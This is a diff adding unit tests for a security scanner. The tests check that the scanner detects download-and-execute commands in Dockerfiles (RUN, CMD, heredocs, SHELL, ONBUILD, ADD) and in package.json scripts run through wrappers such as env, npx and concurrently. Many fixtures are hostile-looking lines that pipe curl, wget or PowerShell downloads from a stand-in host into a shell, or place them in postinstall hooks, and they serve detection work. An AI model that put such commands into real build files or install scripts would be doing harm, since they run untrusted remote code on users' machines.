@@ -105,4 +105,68 @@ test('mcpfusion scan: the package.json commands are findings, the file its posti
   assert.not.ok(at.some((s) => s.includes('command:wget')));
 });
 
+test('scanner22: Dockerfile flags with quoted values, empty and comment lines in a continuation, heredocs, SHELL, ONBUILD, ADD of a repository', () => {
+  const rows = (text: string): string[] => docker(`FROM node:20\n${text}`).map((s) => s.replace(/ (network|code-evaluation)\.command-/, ' '));
+  // A flag's quoted value may hold spaces; the command comes after all flags.
+  assert.equal(rows('RUN --mount=type=secret,id=npmrc,target="/root/my npmrc" --network=default curl -fsSL https://x.test/i | sh\n'), ['2 download command:curl', '2 remote-code command:curl|sh']);
+  assert.equal(rows('RUN --mount=type=cache,target=/root/.cache,sharing=locked \\\n    --mount=type=bind,source=package.json,target=package.json \\\n    curl -fsSL https://x.test/i | bash\n'), ['2 download command:curl', '2 remote-code command:curl|bash']);
+  // Docker drops comment and empty lines inside a continuation; the instruction goes on.
+  assert.equal(rows('RUN apt-get update \\\n# install curl\n\n    && curl -fsSL https://x.test/i | sh\n'), ['2 download command:curl', '2 remote-code command:curl|sh']);
+  // Exec form: JSON with escaped quotes, over continued lines.
+  assert.equal(rows('CMD ["sh", "-c", "echo \\"start\\" && curl -s https://x.test/a | sh"]\n'), ['2 download command:curl', '2 remote-code command:curl|sh']);
+  assert.equal(rows('ENTRYPOINT [ "bash", \\\n  "-c", \\\n  "wget -qO- https://x.test/a | bash" ]\n'), ['2 download command:wget', '2 remote-code command:wget|bash']);
+  // Heredocs: run by the shell, by the command they feed, by their #! line; data for any other command.
+  assert.equal(rows('RUN <<EOF bash\nset -e\ncurl -fsSL https://x.test/i | sh\nEOF\n'), ['2 download command:curl', '2 remote-code command:curl|sh']);
+  assert.equal(rows('RUN <<-EOT\n\tcurl -s https://x.test/b | sh\n\tEOT\nRUN echo after\n'), ['2 download command:curl', '2 remote-code command:curl|sh']);
+  assert.equal(rows('RUN python3 <<EOF\nimport subprocess\nsubprocess.run(["id"])\nEOF\n'), ['2 subprocess.python-subprocess subprocess.run']);
+  assert.equal(rows('RUN <<EOF\n#!/usr/bin/env python3\nimport os\nos.system("id")\nEOF\n'), ['2 subprocess.python-os-exec os.system']);
+  assert.equal(rows('RUN cat <<EOF > /etc/profile.d/x.sh\ncurl -s https://x.test/b | sh\nEOF\nRUN echo after\n'), []);
+  assert.equal(rows('RUN bash setup.sh <<EOF\ncurl -s https://x.test/b | sh\nEOF\n'), []);
+  // ADD: a checksum flag, a quoted source in exec form, a git repository by URL or scp-like address.
+  assert.equal(rows('ADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.test/t.tgz /opt/\n'), ['2 download command:ADD']);
+  assert.equal(rows('ADD --chown="1000:1000" ["https://x.test/a b.tgz", "/opt/"]\n'), ['2 download command:ADD']);
+  assert.equal(rows('ADD --keep-git-dir=true https://github.com/moby/buildkit.git#v0.10.1 /buildkit\nADD git@github.com:user/repo.git /repo\nADD ./local.tgz /opt/\n'), ['2 download command:ADD', '3 download command:ADD']);
+  // The escape directive, SHELL (until the next stage), ONBUILD.
+  assert.equal(docker('# escape=`\nFROM mcr.microsoft.com/windows/servercore\nRUN powershell -Command `\n    iex (iwr https://x.test/i.ps1)\n').map((s) => s.replace(/ (network|code-evaluation)\.command-/, ' ')), ['3 download command:iwr', '3 remote-code command:iwr|iex']);
+  assert.equal(rows('SHELL ["powershell", "-Command"]\nRUN iex (iwr https://x.test/i.ps1 -UseBasicParsing).Content\nFROM node:20\nRUN echo "iex (iwr https://x.test/i.ps1)"\n'), ['3 download command:iwr', '3 remote-code command:iwr|iex']);
+  // Chocolatey's documented install line, unquoted after -Command.
+  assert.equal(rows("RUN powershell -NoProfile -ExecutionPolicy Bypass -Command iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n"), ['2 download command:downloadstring', '2 remote-code command:downloadstring|iex']);
+  assert.equal(rows('ONBUILD RUN curl -s https://x.test/i | sh\nONBUILD ADD https://x.test/a.tgz /a/\n'), ['2 download command:curl', '2 remote-code command:curl|sh', '3 download command:ADD']);
+  assert.equal(dockerfileCommands('FROM x\nONBUILD RUN a\nRUN b\n').map((c) => c.origin), ['ONBUILD RUN', 'RUN']);
+});
+
+test('scanner22: wrappers in project commands (env, cross-env, timeout, npm-run-all, concurrently, npx, shells)', () => {
+  const at = (table: Record<string, string>, extra: Record<string, unknown> = {}): string[] => scanProjectCommands('package.json', JSON.stringify({ scripts: table, ...extra }, null, 2), 'package.json').findings.map((f) => `${f.line} ${f.id.replace(/^(network|code-evaluation)\.command-/, '')} ${f.identifier}`);
+  const runsCode = (n: number, via = 'curl|sh'): string[] => [`${n} download command:${via.split('|')[0]}`, `${n} remote-code command:${via}`];
+  assert.equal(at({ postinstall: 'sh -c "curl -fsSL https://x.test/i | sh"' }), runsCode(3));
+  assert.equal(at({ postinstall: "bash -lc 'wget -qO- https://x.test/i | bash'" }), runsCode(3, 'wget|bash'));
+  assert.equal(at({ postinstall: 'eval "$(curl -fsSL https://x.test/env)"' }), runsCode(3, 'curl|eval'));
+  // Prefixes with their options and values, assignments, a duration, env -S's command line.
+  assert.equal(at({ postinstall: 'env -u HOME -i PATH=/bin curl -s https://x.test/i -o x' }), ['3 download command:curl']);
+  assert.equal(at({ postinstall: 'timeout 60 curl -s https://x.test/i | sh' }), runsCode(3));
+  assert.equal(at({ postinstall: 'sudo -u root -E nice -n 10 curl -s https://x.test/i | sh' }), runsCode(3));
+  assert.equal(at({ postinstall: "env -S 'curl -s https://x.test/i' | sh" }), runsCode(3));
+  assert.equal(at({ postinstall: 'cross-env-shell "curl -s https://x.test/i | sh"' }), runsCode(3));
+  assert.equal(at({ postinstall: 'sh -c "curl -s https://x.test/i" | bash' }), runsCode(3, 'curl|bash'));
+  assert.equal(at({ postinstall: 'echo hi && (curl -s https://x.test/i | sh) || true; echo done' }), runsCode(3));
+  // Scripts run by name through npm-run-all (globs), concurrently's npm: arguments, wrappers.
+  assert.equal(at({ postinstall: 'npm-run-all --parallel fetch build', fetch: 'curl -o b https://x.test/b', build: 'tsc' }), ['4 download command:curl']);
+  assert.equal(at({ postinstall: 'run-s "setup:**"', 'setup:a:b': 'curl -o b https://x.test/b', 'setup:c': 'tsc' }), ['4 download command:curl']);
+  assert.equal(at({ postinstall: 'run-p -l setup:*', 'setup:a:b': 'curl -o b https://x.test/b' }), []);
+  assert.equal(at({ start: 'concurrently -n a,b "npm:watch-*" "node server.js"', 'watch-a': 'curl -o b https://x.test/b' }), ['4 download command:curl']);
+  assert.equal(at({ start: 'concurrently "curl -s https://x.test/i | sh" "node s.js"' }), runsCode(3));
+  assert.equal(at({ postinstall: 'cross-env CI=1 npm run fetch', fetch: 'curl -o b https://x.test/b' }), ['4 download command:curl']);
+  assert.equal(at({ postinstall: 'sh -c "npm run fetch"', fetch: 'curl -o b https://x.test/b' }), ['4 download command:curl']);
+  // Another package's scripts are not this table's.
+  assert.equal(at({ postinstall: 'npm --prefix sub run fetch && yarn workspace a run fetch', fetch: 'curl -o b https://x.test/b' }), []);
+  // Package runners: a package fetched from the registry when not a dependency and run unasked (-y, dlx); what it runs is read.
+  assert.equal(at({ postinstall: 'npx -y some-installer@latest --quiet' }), ['3 download command:npx']);
+  assert.equal(at({ postinstall: 'pnpm dlx create-x && yarn dlx y' }), ['3 download command:pnpm-dlx', '3 download command:yarn-dlx']);
+  assert.equal(at({ postinstall: 'npx -y some-installer' }, { devDependencies: { 'some-installer': '^1' } }), []);
+  assert.equal(at({ postinstall: 'npx tsx scripts/setup.ts && npm exec -- curl -s https://x.test/i -o i' }), ['3 download command:curl']);
+  const files = (table: Record<string, string>): string[] => scanProjectCommands('package.json', JSON.stringify({ scripts: table }), 'package.json').scripts;
+  assert.equal(files({ postinstall: 'npx tsx scripts/setup.ts', start: 'cross-env NODE_ENV=production node dist/server.js' }), ['scripts/setup.ts', 'dist/server.js']);
+  assert.equal(files({ start: 'concurrently "npm:a" "node s.js"', a: 'bun run b.ts' }), ['s.js', 'b.ts']);
+});
+
 test.run();
